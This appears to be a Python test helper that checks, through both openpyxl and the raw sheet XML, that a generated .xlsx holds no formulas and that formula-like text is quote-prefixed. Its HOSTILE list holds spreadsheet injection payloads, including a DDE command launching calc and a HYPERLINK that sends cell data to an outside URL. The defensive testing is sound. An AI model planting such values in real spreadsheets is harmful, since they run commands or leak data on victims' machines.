"""Reopen a written .xlsx two ways and prove no cell is a formula (shared by the sweeps).

openpyxl shows what a program reading the file sees; the raw sheet XML (via zipfile) shows
what Excel or WPS will evaluate: a ``<f>`` element is a formula whatever openpyxl says, a
``t="e"`` cell an error code, and a text cell that starts like a formula must point at a
cell format with ``quotePrefix="1"`` so that editing it keeps it text.
"""

from __future__ import annotations

import io
import zipfile
from dataclasses import dataclass
from xml.etree import ElementTree as ET

from openpyxl import load_workbook

HOSTILE = (
    '=HYPERLINK("http://x"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
)
FORMULA_START = tuple("=+-@\t\r\n")
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
_M = "{" + NS["m"] + "}"


@dataclass(frozen=True)
class TextCell:
    sheet: str
    ref: str
    text: str
    quoted: bool


def _quote_prefixed_styles(book: zipfile.ZipFile) -> list[bool]:
    root = ET.fromstring(book.read("xl/styles.xml"))
    xfs = root.find("m:cellXfs", NS)
    assert xfs is not None
    return [xf.get("quotePrefix") in ("1", "true") for xf in xfs.findall("m:xf", NS)]


def _raw_cells(data: bytes) -> list[TextCell]:
    """Every text cell of every sheet, from the XML; fails on any formula or error cell."""
    cells = []
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        quoted = _quote_prefixed_styles(book)
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets, "no worksheet in the file"
        for name in sheets:
            xml = book.read(name)
            assert b"<f>" not in xml and b"<f " not in xml, f"formula element in {name}"
            for c in ET.fromstring(xml).iter(_M + "c"):
                ref, kind = c.get("r", "?"), c.get("t", "n")
                assert c.find("m:f", NS) is None, f"{name} {ref} is a formula"
                assert kind not in ("e", "str"), f"{name} {ref} has type {kind}"
                if kind == "inlineStr":
                    text = "".join(t.text or "" for t in c.iter(_M + "t"))
                    style = quoted[int(c.get("s", "0"))]
                    cells.append(TextCell(name, ref, text, style))
                elif kind == "s":  # a shared string: our writer never makes one
                    raise AssertionError(f"{name} {ref}: shared string, not written by xlsxsafe")
    return cells


def safe_texts(data: bytes) -> list[str]:
    """All text values of the workbook, after asserting no formula anywhere.

    Checks the raw XML (no ``<f>``, no error cell, formula-like text quote-prefixed) and the
    same file through openpyxl (no cell of type ``f``; the value read equals the XML text).
    """
    raw = _raw_cells(data)
    for cell in raw:
        if cell.text.startswith(FORMULA_START):
            assert cell.quoted, f"{cell.sheet} {cell.ref} {cell.text!r} is not quote-prefixed"
    seen = []
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title} {c.coordinate} is a formula"
                if isinstance(c.value, str):
                    seen.append(c.value)
                    if c.value.startswith(FORMULA_START):
                        assert c.quotePrefix, f"{ws.title} {c.coordinate} not quote-prefixed"
    assert sorted(seen) == sorted(cell.text for cell in raw if cell.text)
    return seen


def assert_shown(texts: list[str], *payloads: str) -> None:
    """Each payload is in some cell exactly as written (whole, or inside a joined cell)."""
    for payload in payloads:
        assert any(payload in text for text in texts), f"{payload!r} not shown as written"
